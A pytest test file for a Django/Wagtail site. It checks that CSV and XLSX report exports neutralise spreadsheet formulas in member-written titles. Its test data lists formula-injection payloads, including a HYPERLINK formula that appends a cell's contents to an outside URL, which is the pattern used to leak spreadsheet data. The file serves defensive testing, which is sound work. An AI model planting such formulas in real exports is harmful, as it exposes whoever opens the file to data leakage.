"""Tables that members take away: what a stranger wrote in a title is never computed by the program that opens them."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import harmless_cell
from members.groups import MODERATION
from tests.factories import make_article, make_member

FORMULAS = ['=HYPERLINK("https://example.org/?"&A1;"a")', "+1+1", "-1+1", "@SUM(1)", "\t=1+1", " =1+1", "＝1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_program_would_compute_is_made_text(text):
    assert harmless_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", ["Le mur", "1+1", "", None, 3, -3, True])
def test_the_rest_is_left_as_it_is(value):
    assert harmless_cell(value) == value


@pytest.mark.django_db
@pytest.mark.parametrize("report", ["aging_pages", "site_history"])
def test_a_title_is_no_formula_in_a_report(client, report):
    member = make_member("sacha", MODERATION)
    make_article(title='=HYPERLINK("https://example.org")', owner=member)
    client.force_login(member)
    answer = client.get(reverse(f"wagtailadmin_reports:{report}"), {"export": "csv"})
    rows = csv.reader(io.StringIO(b"".join(answer.streaming_content).decode()))
    cells = [cell for row in rows for cell in row]
    assert "HYPERLINK" in " ".join(cells)
    assert not [cell for cell in cells if cell.startswith("=")]


@pytest.mark.django_db
def test_a_title_that_no_sheet_can_hold_loses_what_cannot_be_written(client):
    member = make_member("sacha", MODERATION)
    make_article(title="Le \ufffemur peint", owner=member)
    client.force_login(member)
    answer = client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "xlsx"})
    assert answer.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(answer.streaming_content))).active
    assert "Le mur peint" in [cell.value for row in sheet for cell in row]
